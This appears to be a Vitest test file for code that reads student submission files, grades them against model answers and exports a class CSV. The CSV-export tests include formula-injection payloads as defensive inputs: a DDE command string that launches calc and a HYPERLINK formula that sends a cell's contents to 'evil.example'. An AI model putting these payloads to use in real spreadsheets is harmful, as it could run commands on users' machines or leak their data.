import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { csvParseRows } from 'd3-dsv';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  assignmentsOf,
  classReport,
  readSubmissions,
  referenceKey,
  runDiffers,
  settingsToCompute,
  safeCell,
  studentKey,
  toCsv,
  type ClassExercise,
  type FileText,
} from '../../src/lib/class-aggregate';
import { SUBMISSION_FORMAT, type Submission } from '../../src/lib/submission';
import { computeMetric } from '../../src/lib/metrics';
import { expectedAnswers, ownSettings } from '../../src/lib/grading';
import { models } from '../../src/models/index';

const dir = 'tests/e2e/fixtures/submissions';
const read = (sub: string): FileText[] =>
  readdirSync(join(dir, sub))
    .filter((n) => n.endsWith('.json'))
    .sort()
    .map((name) => ({ name, text: readFileSync(join(dir, sub, name), 'utf8') }));
const three = read('.');
/** An earlier file from Ben, a file that is not a submission, and one cut short (not JSON). */
const extra = [
  ...read('extra'),
  {
    name: 'broken.json',
    text: '{"format": "word-of-mouth-submission", "formatVersion": 1, "student": "Dan"',
  },
];

/** The two exercises the fixtures use, with the answers the models compute for their presets. */
const exercises = new Map<string, ClassExercise>([
  [
    'ubg-fizzle',
    {
      id: 'ubg-fizzle',
      title: 'Will it fizzle?',
      model: 'branching',
      preset: 'ubg-2009',
      params: { r: 1.1, kappa: 0.15, cap: 10000, maxGenerations: 50, runs: 2000 },
      spec: models.branching.spec,
      questions: [
        {
          id: 'p-fizzle',
          text: 'Share that fizzle?',
          template: 'Share that fizzle?',
          metric: 'branching.pFizzle',
          unit: 'share',
          tolerance: 0.03,
          answer: 0.9655,
        },
        {
          id: 'p-viral',
          text: 'Share that go viral?',
          template: 'Share that go viral?',
          metric: 'branching.pViral',
          unit: 'share',
          tolerance: 0.25,
          answer: 0.03,
        },
      ],
    },
  ],
  [
    'ubg-break-even',
    {
      id: 'ubg-break-even',
      title: 'Break-even reach',
      model: 'cost-of-silence',
      preset: 'ubg-2009',
      params: { fixCost: 1200, reach: 5800000, customerShare: 0.1, leaveShare: 0.001, clv: 1000 },
      spec: models['cost-of-silence'].spec,
      questions: [
        {
          id: 'break-even',
          text: 'Break-even reach?',
          template: 'Break-even reach?',
          metric: 'cost-of-silence.breakEvenReach',
          unit: 'people',
          tolerance: 0.05,
          answer: 12000,
        },
        {
          id: 'expected-loss',
          text: 'Expected loss?',
          template: 'Expected loss?',
          metric: 'cost-of-silence.expectedLoss',
          unit: 'USD',
          tolerance: 0.05,
          answer: 580000,
        },
      ],
    },
  ],
]);

/** A version 1 file (before files carried settings), as the fixtures are. */
const submission = (
  student: string,
  exportedAt: string,
  items: Omit<Submission['items'][number], 'settings'>[] = [],
): string =>
  JSON.stringify({
    format: SUBMISSION_FORMAT,
    formatVersion: 1,
    student,
    assignment: { title: 'T', id: 'x', due: '' },
    exportedAt,
    items,
  });

describe('reading submission files', () => {
  it('reads the three fixture files as three students, sorted by name', () => {
    const loaded = readSubmissions(three);
    expect(loaded.problems).toEqual([]);
    expect(loaded.duplicates).toEqual([]);
    expect(loaded.entries.map((e) => e.student)).toEqual(['Ana Silva', 'Ben Okafor', 'Chloé Martin']);
    expect(assignmentsOf(loaded.entries)).toEqual([
      { id: 'tvtbbg', title: 'Week 3: fizzle or break even', count: 3 },
    ]);
  });

  it('lists files it cannot read with the reason, and goes on with the others', () => {
    const loaded = readSubmissions([...three, ...extra]);
    expect(loaded.problems).toEqual([
      { file: 'not-a-submission.json', reason: 'not a submission file from this site' },
      { file: 'broken.json', reason: 'not valid JSON' },
    ]);
    expect(loaded.entries).toHaveLength(3);
  });

  it('keeps the latest file of a student named twice (however the name was typed), and says so', () => {
    const loaded = readSubmissions([...extra, ...three]);
    expect(loaded.duplicates).toEqual([
      { student: 'Ben Okafor', kept: 'ben-okafor.json', dropped: ['ben-okafor-earlier.json'] },
    ]);
    const ben = loaded.entries.find((e) => e.student === 'Ben Okafor')!;
    expect(ben.submission.exportedAt).toBe('2026-11-30T19:00:00.000Z');
  });

  it('on equal or unreadable export times the file read last wins; a file without a name is its own student', () => {
    const loaded = readSubmissions([
      { name: 'a.json', text: submission('Zoë', 'not a date') },
      { name: 'b.json', text: submission('zoe', 'not a date either') },
      { name: 'c.json', text: submission('', '2026-01-01T00:00:00Z') },
      { name: 'd.json', text: submission('   ', '2026-01-01T00:00:00Z') },
    ]);
    expect(loaded.entries.map((e) => [e.student, e.file])).toEqual([
      ['No name (c.json)', 'c.json'],
      ['No name (d.json)', 'd.json'],
      ['zoe', 'b.json'],
    ]);
    expect(studentKey(' Zoë  Smith ')).toBe(studentKey('zoe smith'));
  });

  it('never throws, whatever the files hold', () => {
    fc.assert(
      fc.property(
        fc.array(fc.record({ name: fc.string(), text: fc.oneof(fc.string(), fc.json()) }), { maxLength: 6 }),
        (files) => {
          const loaded = readSubmissions(files);
          expect(loaded.entries.length + loaded.problems.length).toBeLessThanOrEqual(files.length);
          expect(() => classReport(loaded.entries, exercises)).not.toThrow();
        },
      ),
    );
  });
});

describe('the class report', () => {
  const loaded = readSubmissions(three);
  const report = classReport(loaded.entries, exercises);
  const [fizzle, breakEven] = report.exercises;

  it('counts answers, right and not right, against the preset’s model answer', () => {
    expect(report.exercises.map((e) => e.id)).toEqual(['ubg-fizzle', 'ubg-break-even']);
    const [pFizzle, pViral] = fizzle.questions;
    expect(pFizzle).toMatchObject({ answered: 3, right: 2, notRight: 1, unreadable: 0, missing: 0 });
    expect(pFizzle.reference).toEqual({
      value: 0.9655,
      text: 'Share that fizzle?',
      params: exercises.get('ubg-fizzle')!.params,
      source: 'preset',
    });
    expect(pFizzle.responses.map((r) => [r.student, r.value, r.right])).toEqual([
      ['Ana Silva', '96%', true],
      ['Ben Okafor', '50%', false],
      ['Chloé Martin', '0.97', true],
    ]);
    // "about half" is an answer, but not a number: not right, and counted as unreadable.
    expect(pViral).toMatchObject({ answered: 2, right: 1, notRight: 1, unreadable: 1, missing: 1 });
    const [be, loss] = breakEven.questions;
    expect(be).toMatchObject({ answered: 2, right: 1, notRight: 1, missing: 1 });
    expect(loss).toMatchObject({ answered: 2, right: 2, notRight: 0, missing: 1 });
  });

  it('says who has not done what', () => {
    expect(fizzle.missing).toEqual([
      { student: 'Ben Okafor', what: ['no answer to question 2', 'no reflection'] },
      { student: 'Chloé Martin', what: ['no prediction'] },
    ]);
    expect(breakEven.missing).toEqual([
      { student: 'Ben Okafor', what: ['no prediction', 'no answers', 'no reflection'] },
      { student: 'Chloé Martin', what: ['no reflection'] },
    ]);
  });

  it('flags a student whose run used other settings than the model answer’s', () => {
    expect(fizzle.otherSettings).toEqual([]);
    expect(breakEven.otherSettings).toEqual(['Chloé Martin']);
    expect(breakEven.questions[0].responses.find((r) => r.student === 'Chloé Martin')!.otherSettings).toBe(
      true,
    );
    expect(runDiffers(null, { a: 1 })).toBe(false);
    expect(runDiffers({ model: 'm', params: { a: '1', b: 2 }, seed: 1, savedAt: '' }, { a: 1 })).toBe(false);
    expect(runDiffers({ model: 'm', params: { a: 1.0000001 }, seed: 1, savedAt: '' }, { a: 1 })).toBe(true);
  });

  it('for these older files, uses the settings of an assignment link the instructor gives', () => {
    const settings = { ...ownSettings(), params: { fixCost: 1500 } };
    const ex = exercises.get('ubg-break-even')!;
    const questions = ex.questions.map((q) => ({ ...q, text: q.template }));
    const refs = new Map([
      [
        referenceKey('ubg-break-even', settings),
        expectedAnswers({ ...ex, questions }, ex.spec, settings, computeMetric),
      ],
    ]);
    const link = new Map([['ubg-break-even', settings]]);
    expect(settingsToCompute(loaded.entries, exercises, new Map(), link).map((n) => n.key)).toEqual([
      referenceKey('ubg-break-even', settings),
    ]);
    expect(settingsToCompute(loaded.entries, exercises, refs, link)).toEqual([]);
    const r = classReport(loaded.entries, exercises, refs, link);
    const be = r.exercises[1].questions[0];
    expect(be.reference?.source).toBe('link');
    expect(be.reference?.value).toBeCloseTo(1500 / (0.1 * 0.001 * 1000), 6);
    expect(r.exercises[1].settings).toEqual([
      { changes: ['Cost of making it right $1,500 instead of $1,200'], source: 'link' },
    ]);
    expect(be).toMatchObject({ right: 0, notRight: 2 });
    // Now Ana ran the preset, which is not the link's setting; Chloé ran the link's.
    expect(be.responses.filter((x) => x.otherSettings).map((x) => x.student)).toEqual(['Ana Silva']);
    // Without the link they are graded against the exercise's own settings, with nothing left to compute.
    expect(settingsToCompute(loaded.entries, exercises, new Map())).toEqual([]);
    expect(loaded.entries.every((e) => e.submission.legacy)).toBe(true);
  });

  it('keeps answers to questions and exercises the site does not know, with the student’s own check', () => {
    const files = [
      {
        name: 'x.json',
        text: submission('X', '2026-01-01T00:00:00Z', [
          {
            exercise: 'gone',
            title: 'An old exercise',
            prediction: null,
            reflection: null,
            run: null,
            answers: { q: { value: '3', correct: true, savedAt: '' } },
          },
        ]),
      },
    ];
    const r = classReport(readSubmissions(files).entries, exercises);
    expect(r.exercises[0]).toMatchObject({ id: 'gone', title: 'An old exercise', known: false });
    expect(r.exercises[0].questions[0]).toMatchObject({ reference: null, right: 1 });
  });

  it('an exercise missing from a student’s file is listed as missing', () => {
    const files = [
      {
        name: 'a.json',
        text: submission('A', '', [
          { exercise: 'ubg-fizzle', title: '', prediction: null, reflection: null, run: null, answers: {} },
        ]),
      },
      { name: 'b.json', text: submission('B', '', []) },
    ];
    const r = classReport(readSubmissions(files).entries, exercises);
    expect(r.exercises[0].missing.find((m) => m.student === 'B')).toEqual({
      student: 'B',
      what: ['not in their file at all'],
    });
  });
});

describe('CSV export', () => {
  it('one row per student with every prediction, answer, check and reflection', () => {
    const loaded = readSubmissions(three);
    const rows = csvParseRows(toCsv(classReport(loaded.entries, exercises), loaded.entries));
    expect(rows).toHaveLength(4);
    expect(rows[0].slice(0, 6)).toEqual([
      'Student',
      'File',
      'Exported at',
      'Will it fizzle?: prediction',
      'Will it fizzle?: answer 1',
      'Will it fizzle?: answer 1 checked',
    ]);
    expect(rows.every((r) => r.length === rows[0].length)).toBe(true);
    const ben = rows.find((r) => r[0] === 'Ben Okafor')!;
    expect(ben.slice(3, 9)).toEqual(['Half of them.', '50%', 'not right', '', '', '']);
    const chloe = rows.find((r) => r[0] === 'Chloé Martin')!;
    expect(chloe.at(-1)).toBe('yes');
    expect(chloe).toContain('580,000');
  });

  it('every cell starting with = + - @, a tab or a carriage return is defused (OWASP), numbers included', () => {
    expect(safeCell('=HYPERLINK("x")')).toBe('\'=HYPERLINK("x")');
    expect(safeCell('@SUM(A1)')).toBe("'@SUM(A1)");
    // Issue 14: a sign and a digit were let through, and these ran as formulas.
    expect(safeCell("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(safeCell('+1+HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(
      '\'+1+HYPERLINK("http://evil.example/?"&A1,"x")',
    );
    expect(safeCell('-0.4')).toBe("'-0.4");
    expect(safeCell('+5%')).toBe("'+5%");
    expect(safeCell('\t=1')).toBe("'\t=1");
    expect(safeCell('\r=1')).toBe("'\r=1");
    expect(safeCell('- a dash list')).toBe("'- a dash list");
    expect(safeCell('plain')).toBe('plain');
    expect(safeCell('0.4')).toBe('0.4');
  });

  it('no cell of the CSV starts with a formula character, whatever students wrote (fast-check)', () => {
    fc.assert(
      fc.property(fc.array(fc.string(), { maxLength: 8 }), (cells) => {
        for (const cell of cells.map(safeCell)) expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
      }),
      { numRuns: 200 },
    );
  });
});
